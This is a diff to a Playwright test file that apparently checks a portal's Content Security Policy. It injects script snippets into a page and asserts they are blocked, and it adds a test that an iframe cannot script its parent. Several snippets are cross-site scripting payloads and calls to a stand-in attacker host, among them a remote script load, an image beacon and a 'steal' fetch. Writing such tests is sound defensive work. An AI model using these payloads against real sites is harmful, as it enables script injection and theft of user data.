@@ -50,7 +50,6 @@ def test_a_page_of_the_desk_breaks_no_rule_and_asks_nobody_else(
         "document.body.insertAdjacentHTML('beforeend', '<svg onload=\"window.ran = 1\"></svg>')",
         "const e = document.createElement('script'); e.src = 'https://evil.example/x.js'; document.body.append(e)",
         "const a = document.createElement('a'); a.href = 'javascript:window.ran = 1'; document.body.append(a); a.click()",
-        "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>parent.ran = 1</script>\"></iframe>')",
         "document.body.insertAdjacentHTML('beforeend', '<object data=\"data:text/html,x\"></object>')",
         "const i = new Image(); i.src = 'https://evil.example/beacon.png'",
         "fetch('https://evil.example/steal').catch(() => {})",
@@ -67,7 +66,17 @@ def test_what_is_smuggled_into_a_page_is_blocked(
         "event => window.blocked.push(event.effectiveDirective)) }"
     )
     page.evaluate(f"() => {{ {smuggle} }}")
-    page.wait_for_function("window.blocked.length > 0", timeout=5000)
+    page.wait_for_function("() => window.blocked.length > 0", timeout=5000)
+    assert page.evaluate("window.ran") is None
+
+
+def test_a_frame_inherits_the_policy(browser_context: BrowserContext, demo_portal: running.Served) -> None:
+    page = browser_context.new_page()
+    page.goto(f"{demo_portal.url}/_stcore/health")
+    page.evaluate(
+        "() => new Promise(loaded => { const frame = document.createElement('iframe'); frame.onload = loaded; "
+        "frame.srcdoc = '<script>parent.ran = 1</script>'; document.body.append(frame) })"
+    )
     assert page.evaluate("window.ran") is None
 
 
